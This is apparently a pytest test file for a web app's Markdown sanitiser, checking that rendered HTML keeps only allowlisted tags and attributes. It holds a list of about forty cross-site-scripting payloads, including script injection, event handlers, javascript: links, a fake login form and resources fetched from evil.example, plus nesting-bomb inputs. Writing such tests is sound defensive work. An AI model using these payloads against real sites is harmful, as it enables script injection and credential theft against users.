"""Hostile and ordinary Markdown: what comes out holds only what the closed list allows."""

import json
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from apps.common.markdown import render_markdown

SHARED = Path(__file__).resolve().parents[3] / "shared/data/cms"

ALLOWED_TAGS = {
    *("h2", "h3", "h4", "h5", "h6", "p", "div", "br", "hr", "blockquote", "pre", "code"),
    *("a", "img", "em", "strong", "del", "s", "sub", "sup", "ol", "ul", "li"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
ALLOWED_ATTRIBUTES = {"href", "title", "rel", "src", "alt", "start", "scope", "class"}


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    collector = _Collector()
    collector.feed(html)
    return collector.elements


def assert_harmless(html: str) -> None:
    for tag, attributes in elements(html):
        assert tag in ALLOWED_TAGS, tag
        assert set(attributes) <= ALLOWED_ATTRIBUTES, attributes
        if tag == "img":
            assert attributes.get("src", "/static/").startswith("/static/"), attributes
        if tag == "a":
            scheme = attributes.get("href", "").split(":")[0].strip().lower()
            assert scheme not in {"javascript", "data", "vbscript", "file"}, attributes
            assert attributes["rel"] == "noopener noreferrer"


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="/static/x.png" onload="alert(1)" srcset="//evil.example/p.png 2x">',
    "![pixel](https://evil.example/p.gif)",
    "![pixel](//evil.example/p.gif)",
    "![pixel](/static/../accounts/logout/)",
    "![pixel](/static\\..\\evil)",
    "![pixel](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    '<a href="java&#10;script:alert(1)">x</a>',
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '<p hx-get="/admin/" hx-trigger="load">x</p>',
    '<p data-hx-post="/deals/" data-hx-trigger="load">x</p>',
    '<a href="/x" hx-boost="true" hx-on:click="alert(1)" hx-on--load="alert(1)">x</a>',
    '<div class="modal show" id="toasts" name="csrf" style="position:fixed">x</div>',
    '<form action="//evil.example"><input name="password"><button>Sign in</button></form>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example/"><link rel=stylesheet href=//evil.example/a.css>',
    "<style>@import '//evil.example/a.css'</style>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    "<details open ontoggle=alert(1)>x</details>",
    "<!--><img src=x onerror=alert(1)>-->",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '| a |\n|--|\n| <img src=x onerror="alert(1)"> |',
    "\x00<scr\x00ipt>alert(1)</script>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_comes_out_harmless(text: str) -> None:
    assert_harmless(render_markdown(text))


@given(st.lists(st.sampled_from(HOSTILE), max_size=4), st.text(max_size=60))
def test_hostile_pieces_stay_harmless_in_any_mixture(pieces: list[str], glue: str) -> None:
    assert_harmless(render_markdown(glue.join(pieces)))


def test_a_script_leaves_nothing_behind_not_even_its_source() -> None:
    html = render_markdown("MAO = ARV x 70% <script>alert(1)</script>")
    assert "alert" not in html
    assert "MAO = ARV x 70%" in html


def test_code_shows_a_script_as_text() -> None:
    assert "&lt;script&gt;" in render_markdown("`<script>`")


@pytest.mark.shared_data
def test_recorded_hostile_lesson_set() -> None:
    path = SHARED / "contentful_courses_lessons_handmade.json"
    entries = json.loads(path.read_text())["body"]["includes"]["Entry"]
    copies = [entry["fields"].get("copy") for entry in entries]
    texts = [copy for copy in copies if isinstance(copy, str)]
    assert any("<script>" in text for text in texts)
    for text in texts:
        assert_harmless(render_markdown(text))
        assert "alert" not in render_markdown(text)


def test_ordinary_markdown_keeps_its_meaning() -> None:
    html = render_markdown(
        "# Title\n\nA **bold** [link](https://example.com/a?b=1&c=2).\n\n3. three\n4. four\n\n"
        "| what | amount |\n|---|---:|\n| fee | 10 |\n\n![chart](/static/courses/chart.png)"
    )
    assert "<h2>Title</h2>" in html
    assert "<h1" not in html
    assert 'href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer"' in html
    assert '<ol start="3">' in html
    assert '<div class="table-responsive"><table class="table table-sm">' in html
    assert '<td class="text-end">10</td>' in html
    assert '<img src="/static/courses/chart.png" alt="chart">' in html


def test_a_foreign_image_leaves_its_description() -> None:
    assert render_markdown("![the chart](https://evil.example/p.gif)").strip() == (
        '<p><img alt="the chart"></p>'
    )


def test_no_style_attribute_is_ever_written() -> None:
    assert "style=" not in render_markdown("| a |\n|:-:|\n| 1 |")


@pytest.mark.parametrize("bomb", [">" * 20_000, "[" * 20_000, "*a " * 10_000, "<div>" * 5_000])
def test_nesting_bombs_end_soon(bomb: str) -> None:
    started = time.monotonic()
    assert_harmless(render_markdown(bomb))
    assert time.monotonic() - started < 10
